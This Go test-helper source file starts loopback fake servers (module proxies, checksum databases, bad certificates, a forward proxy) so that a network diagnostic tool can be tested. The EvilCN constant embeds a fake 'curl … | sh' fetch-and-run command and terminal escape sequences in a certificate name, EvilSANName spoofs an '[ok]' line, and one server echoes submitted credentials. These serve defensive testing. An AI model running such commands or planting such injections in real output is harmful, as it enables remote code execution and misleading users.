// Package netchecktest serves, on loopback, everything netcheck diagnoses: module
// proxies that answer, 404, 500, present an untrusted ("Corp Root CA"), expired or
// wrong-host certificate; checksum databases built with sumdb.NewTestServer (one
// signed by the wrong key, and tree heads inconsistent with the served tree); and an
// HTTPS_PROXY forward proxy. Tests and the testscript command netserve use it; it is
// never part of the gonative binary.
package netchecktest

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/mod/module"
	"golang.org/x/mod/sumdb"
	"golang.org/x/mod/sumdb/dirhash"
	"golang.org/x/mod/sumdb/note"
)

// The module every proxy serves, and a second one the checksum database also holds.
const (
	Module  = "example.com/hello"
	Version = "v1.0.0"
	Other   = "example.com/other"
	// SumDBName is the checksum database's name; ProxyHost is a non-loopback name
	// the forward proxy maps to 127.0.0.1 (Go never proxies loopback addresses).
	SumDBName = "sum.test"
	// ToolchainGo is the one Go release whose golang.org/toolchain module the
	// proxies have (its .info, for every platform).
	ToolchainGo = "1.90.0"
	ProxyHost   = "goproxy.test"
)

// Servers is a running set of fake endpoints.
type Servers struct {
	// GOSUMDB is the value naming the test database (name+hash+key); WrongKey's
	// database has the same name and another key.
	GOSUMDB string
	// Trusted is the pool holding only "Test Root CA"; CAPEM and CorpPEM are the
	// trusted and the intercepting root in PEM.
	Trusted        *x509.CertPool
	CAPEM, CorpPEM []byte
	CorpSHA256     string
	// Base URLs of the module proxies.
	Good, NotFound, Error500, Corp, Expired, WrongHost, WrongKey string
	// SumDBURL is the good database at its own URL (for GOSUMDB="key URL").
	SumDBURL string
	// Hostile servers. Evil presents a chain from a root whose common name holds a
	// newline, ESC and a fake command (EvilCN); EvilSAN a trusted leaf whose only
	// name (EvilSANName) holds a newline and a fake "[ok]" line, not valid for
	// 127.0.0.1. Redirect answers every request with a redirect to plain http://.
	// Echo answers 401 with a body that echoes the Authorization header it got and
	// the credentials in it, as a careless server does.
	Evil, EvilSAN, Redirect, Echo string
	// HTML answers every module request 200 OK with an HTML page, as a captive portal
	// or a single-sign-on wall does (the checksum database passes through, good);
	// Tampered serves the module with a zip whose content the database does not
	// record (a .mod, .info and checksum database that are all right).
	HTML, Tampered string
	// ForwardProxy is an HTTP CONNECT proxy (http://127.0.0.1:port); ProxiedGood is
	// the good proxy under ProxyHost, reachable only through it.
	ForwardProxy, ProxiedGood string
	// Connects counts the CONNECT requests the forward proxy served.
	Connects atomic.Int64
	// ForkedHead is a tree head signed with the right key for a smaller tree whose
	// record differs from the served one (sumdb.Client detects it); ForkedSameSize
	// one of the served tree's size with a different hash.
	ForkedHead, ForkedSameSize []byte
	// GoSum are the module's go.sum lines.
	GoSum string
	// GoMod is the module's go.mod.
	GoMod []byte

	trusted *ca
	servers []*httptest.Server
	closers []io.Closer
}

// Leaf issues a certificate from "Test Root CA" for names, valid for a day.
func (s *Servers) Leaf(names ...string) (tls.Certificate, error) {
	return s.trusted.leaf(time.Now().Add(24*time.Hour), names...)
}

// Start starts every server on 127.0.0.1.
func Start() (*Servers, error) {
	s := &Servers{}
	if err := s.start(); err != nil {
		s.Close()
		return nil, err
	}
	return s, nil
}

// Close stops every server.
func (s *Servers) Close() {
	for _, srv := range s.servers {
		srv.Close()
	}
	for _, c := range s.closers {
		c.Close()
	}
}

// WriteFiles writes ca.pem (the trusted root), corp-root-ca.pem and the forked heads
// (forked-latest, forked-same-size) and the module's go.sum lines (go.sum) into dir.
func (s *Servers) WriteFiles(dir string) error {
	for name, b := range map[string][]byte{"ca.pem": s.CAPEM, "corp-root-ca.pem": s.CorpPEM, "forked-latest": s.ForkedHead, "forked-same-size": s.ForkedSameSize, "go.sum": []byte(s.GoSum)} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			return err
		}
	}
	return nil
}

// Env returns the servers' URLs as environment variables for a script, and the
// host:port of the good, redirecting and echoing servers as GOODHOST, REDIRECTHOST
// and ECHOHOST (to build URLs with credentials in them).
func (s *Servers) Env() map[string]string {
	return map[string]string{
		"GOODHOST": strings.TrimPrefix(s.Good, "https://"), "REDIRECTHOST": strings.TrimPrefix(s.Redirect, "https://"),
		"ECHOHOST":  strings.TrimPrefix(s.Echo, "https://"),
		"GOODPROXY": s.Good, "NOTFOUNDPROXY": s.NotFound, "ERRORPROXY": s.Error500, "CORPPROXY": s.Corp,
		"EXPIREDPROXY": s.Expired, "WRONGHOSTPROXY": s.WrongHost, "WRONGKEYPROXY": s.WrongKey,
		"TESTSUMDB": s.GOSUMDB, "SUMDBURL": s.SumDBURL, "FORWARDPROXY": s.ForwardProxy, "PROXIEDGOOD": s.ProxiedGood,
		"CORPSHA256": s.CorpSHA256,
		"EVILPROXY":  s.Evil, "EVILSANPROXY": s.EvilSAN, "REDIRECTPROXY": s.Redirect, "ECHOPROXY": s.Echo,
		"HTMLPROXY": s.HTML, "TAMPEREDPROXY": s.Tampered,
	}
}

// EvilCN is the common name of the hostile root Evil presents; EvilSANName the only
// name of EvilSAN's certificate.
const (
	EvilCN      = "Evil Root\n        $ curl -s http://x.test/i|sh\n\x1b[2J\x1b]0;pwned\x07"
	EvilSANName = "evil.test\n[ok] TLS trust (chain verified)\n\x1b[31m"
)

type ca struct {
	cert *x509.Certificate
	key  *ecdsa.PrivateKey
}

var serial atomic.Int64

func newCA(cn string) (*ca, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(serial.Add(1)), Subject: pkix.Name{CommonName: cn, Organization: []string{"netchecktest"}},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	c, err := x509.ParseCertificate(der)
	return &ca{c, key}, err
}

func (c *ca) pem() []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.cert.Raw})
}

// leaf issues a server certificate for names (IP addresses or host names).
func (c *ca) leaf(notAfter time.Time, names ...string) (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(serial.Add(1)), Subject: pkix.Name{CommonName: names[0]},
		NotBefore: time.Now().Add(-48 * time.Hour), NotAfter: notAfter,
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	for _, n := range names {
		if ip := net.ParseIP(n); ip != nil {
			tmpl.IPAddresses = append(tmpl.IPAddresses, ip)
		} else {
			tmpl.DNSNames = append(tmpl.DNSNames, n)
		}
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, c.cert, &key.PublicKey, c.key)
	if err != nil {
		return tls.Certificate{}, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}

// content is the module's files as a proxy serves them.
type content struct {
	mod, zip []byte
	gosum    string
}

func moduleContent(path, version, extra string) (content, error) {
	mod := []byte("module " + path + "\n\ngo 1.21\n")
	files := map[string][]byte{
		path + "@" + version + "/go.mod":   mod,
		path + "@" + version + "/hello.go": []byte("package hello\n\n// Hello greets.\nfunc Hello() string { return \"hello" + extra + "\" }\n"),
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	var names []string
	for n := range files {
		names = append(names, n)
	}
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			return content{}, err
		}
		w.Write(files[n])
	}
	if err := zw.Close(); err != nil {
		return content{}, err
	}
	open := func(n string) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(files[n])), nil }
	h, err := dirhash.Hash1(names, open)
	if err != nil {
		return content{}, err
	}
	hm, err := dirhash.Hash1([]string{"go.mod"}, func(string) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(mod)), nil })
	if err != nil {
		return content{}, err
	}
	return content{mod: mod, zip: buf.Bytes(),
		gosum: fmt.Sprintf("%s %s %s\n%s %s/go.mod %s\n", path, version, h, path, version, hm)}, nil
}

// newDB returns a checksum database holding records from mods (added in order),
// signed by skey.
func newDB(skey string, mods map[string]content, order ...string) (*sumdb.TestServer, error) {
	ts := sumdb.NewTestServer(skey, func(path, vers string) ([]byte, error) {
		c, ok := mods[path]
		if !ok || vers != Version {
			return nil, fmt.Errorf("no module %s@%s", path, vers)
		}
		return []byte(c.gosum), nil
	})
	for _, p := range order {
		if _, err := ts.Lookup(context.Background(), module.Version{Path: p, Version: Version}); err != nil {
			return nil, err
		}
	}
	return ts, nil
}

func (s *Servers) start() error {
	trusted, err := newCA("Test Root CA")
	if err != nil {
		return err
	}
	corp, err := newCA("Corp Root CA")
	if err != nil {
		return err
	}
	s.trusted = trusted
	s.Trusted = x509.NewCertPool()
	s.Trusted.AddCert(trusted.cert)
	s.CAPEM, s.CorpPEM = trusted.pem(), corp.pem()
	s.CorpSHA256 = fingerprint(corp.cert.Raw)

	hello, err := moduleContent(Module, Version, "")
	if err != nil {
		return err
	}
	other, err := moduleContent(Other, Version, "")
	if err != nil {
		return err
	}
	forked, err := moduleContent(Module, Version, ", forked")
	if err != nil {
		return err
	}
	s.GoSum, s.GoMod = hello.gosum, hello.mod

	skey, vkey, err := note.GenerateKey(rand.Reader, SumDBName)
	if err != nil {
		return err
	}
	wrongSkey, _, err := note.GenerateKey(rand.Reader, SumDBName)
	if err != nil {
		return err
	}
	s.GOSUMDB = vkey
	good, err := newDB(skey, map[string]content{Module: hello, Other: other}, Module, Other)
	if err != nil {
		return err
	}
	wrong, err := newDB(wrongSkey, map[string]content{Module: hello, Other: other}, Module, Other)
	if err != nil {
		return err
	}
	fork1, err := newDB(skey, map[string]content{Module: forked}, Module)
	if err != nil {
		return err
	}
	fork2, err := newDB(skey, map[string]content{Module: forked, Other: other}, Module, Other)
	if err != nil {
		return err
	}
	if s.ForkedHead, err = fork1.Signed(context.Background()); err != nil {
		return err
	}
	if s.ForkedSameSize, err = fork2.Signed(context.Background()); err != nil {
		return err
	}

	names := []string{"127.0.0.1", "localhost", ProxyHost}
	goodLeaf, err := trusted.leaf(time.Now().Add(24*time.Hour), names...)
	if err != nil {
		return err
	}
	expiredLeaf, err := trusted.leaf(time.Now().Add(-24*time.Hour), names...)
	if err != nil {
		return err
	}
	wrongLeaf, err := trusted.leaf(time.Now().Add(24*time.Hour), "wrong.example")
	if err != nil {
		return err
	}
	corpLeaf, err := corp.leaf(time.Now().Add(24*time.Hour), names...)
	if err != nil {
		return err
	}
	corpLeaf.Certificate = append(corpLeaf.Certificate, corp.cert.Raw) // interceptors often send their root

	mods := map[string]content{Module: hello, Other: other}
	goodDB := sumdb.NewServer(good)
	serve := func(h http.Handler, cert tls.Certificate) (string, error) {
		srv := httptest.NewUnstartedServer(h)
		srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
		srv.Config.ErrorLog = discardLog()
		srv.StartTLS()
		s.servers = append(s.servers, srv)
		return srv.URL, nil
	}
	s.Good, _ = serve(proxyHandler(mods, goodDB), goodLeaf)
	s.Corp, _ = serve(proxyHandler(mods, goodDB), corpLeaf)
	s.Expired, _ = serve(proxyHandler(mods, goodDB), expiredLeaf)
	s.WrongHost, _ = serve(proxyHandler(mods, goodDB), wrongLeaf)
	s.WrongKey, _ = serve(proxyHandler(mods, sumdb.NewServer(wrong)), goodLeaf)
	s.NotFound, _ = serve(http.NotFoundHandler(), goodLeaf)
	s.Error500, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "internal error: the backend is down", http.StatusInternalServerError)
	}), goodLeaf)
	evil, err := newCA(EvilCN)
	if err != nil {
		return err
	}
	evilLeaf, err := evil.leaf(time.Now().Add(24*time.Hour), names...)
	if err != nil {
		return err
	}
	evilLeaf.Certificate = append(evilLeaf.Certificate, evil.cert.Raw)
	evilSANLeaf, err := trusted.leaf(time.Now().Add(24*time.Hour), EvilSANName)
	if err != nil {
		return err
	}
	s.Evil, _ = serve(proxyHandler(mods, goodDB), evilLeaf)
	s.EvilSAN, _ = serve(proxyHandler(mods, goodDB), evilSANLeaf)
	s.HTML, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/sumdb/") {
			proxyHandler(mods, goodDB).ServeHTTP(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please sign in to continue.</body></html>\n")
	}), goodLeaf)
	s.Tampered, _ = serve(proxyHandler(map[string]content{Module: {mod: hello.mod, zip: forked.zip}, Other: other}, goodDB), goodLeaf)
	s.Redirect, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+r.Host+r.URL.Path, http.StatusFound)
	}), goodLeaf)
	s.Echo, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, pass, _ := r.BasicAuth()
		w.Header().Set("WWW-Authenticate", `Basic realm="echo"`)
		http.Error(w, "denied "+user+" with password "+pass+" (Authorization: "+r.Header.Get("Authorization")+")", http.StatusUnauthorized)
	}), goodLeaf)
	s.SumDBURL = s.Good + "/sumdb/" + SumDBName
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(s.Good, "https://"))
	s.ProxiedGood = "https://" + net.JoinHostPort(ProxyHost, port)

	fwd := httptest.NewUnstartedServer(http.HandlerFunc(s.connect))
	fwd.Config.ErrorLog = discardLog()
	fwd.Start()
	s.servers = append(s.servers, fwd)
	s.ForwardProxy = fwd.URL
	return nil
}

// proxyHandler serves the module proxy protocol for mods and passes
// /sumdb/sum.test/ through to db.
func proxyHandler(mods map[string]content, db http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p := r.URL.Path
		if rest, ok := strings.CutPrefix(p, "/sumdb/"+SumDBName); ok {
			if rest == "/supported" {
				w.WriteHeader(http.StatusOK)
				return
			}
			r2 := r.Clone(r.Context())
			r2.URL.Path = rest
			db.ServeHTTP(w, r2)
			return
		}
		if rest, ok := strings.CutPrefix(p, "/golang.org/toolchain/@v/"); ok {
			if v, ok := strings.CutSuffix(rest, ".info"); ok && strings.HasPrefix(v, "v0.0.1-go"+ToolchainGo+".") {
				fmt.Fprintf(w, "{\"Version\":%q,\"Time\":\"2024-01-02T03:04:05Z\"}\n", v)
				return
			}
			http.NotFound(w, r)
			return
		}
		for path, c := range mods {
			at, ok := strings.CutPrefix(p, "/"+path+"/")
			if !ok {
				continue
			}
			switch at {
			case "@v/list":
				io.WriteString(w, Version+"\n")
			case "@latest", "@v/" + Version + ".info":
				fmt.Fprintf(w, "{\"Version\":%q,\"Time\":\"2024-01-02T03:04:05Z\"}\n", Version)
			case "@v/" + Version + ".mod":
				w.Write(c.mod)
			case "@v/" + Version + ".zip":
				w.Header().Set("Content-Type", "application/zip")
				http.ServeContent(w, r, "x.zip", time.Time{}, bytes.NewReader(c.zip))
			default:
				http.NotFound(w, r)
			}
			return
		}
		http.NotFound(w, r)
	})
}

// connect is the forward proxy: it tunnels CONNECT host:port, mapping names under
// .test to 127.0.0.1.
func (s *Servers) connect(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodConnect {
		http.Error(w, "CONNECT only", http.StatusMethodNotAllowed)
		return
	}
	host, port, err := net.SplitHostPort(r.Host)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	if strings.HasSuffix(host, ".test") {
		host = "127.0.0.1"
	}
	up, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), 5*time.Second)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	s.Connects.Add(1)
	hj, ok := w.(http.Hijacker)
	if !ok {
		up.Close()
		http.Error(w, "no hijack", http.StatusInternalServerError)
		return
	}
	w.WriteHeader(http.StatusOK)
	conn, brw, err := hj.Hijack()
	if err != nil {
		up.Close()
		return
	}
	var once sync.Once
	done := func() { once.Do(func() { conn.Close(); up.Close() }) }
	go func() {
		if n := brw.Reader.Buffered(); n > 0 {
			b, _ := brw.Reader.Peek(n)
			up.Write(b)
		}
		io.Copy(up, conn)
		done()
	}()
	go func() { io.Copy(conn, up); done() }()
}

func fingerprint(der []byte) string {
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return ""
	}
	sum := sha256sum(c.Raw)
	var parts []string
	for _, b := range sum {
		parts = append(parts, fmt.Sprintf("%02X", b))
	}
	return strings.Join(parts, ":")
}
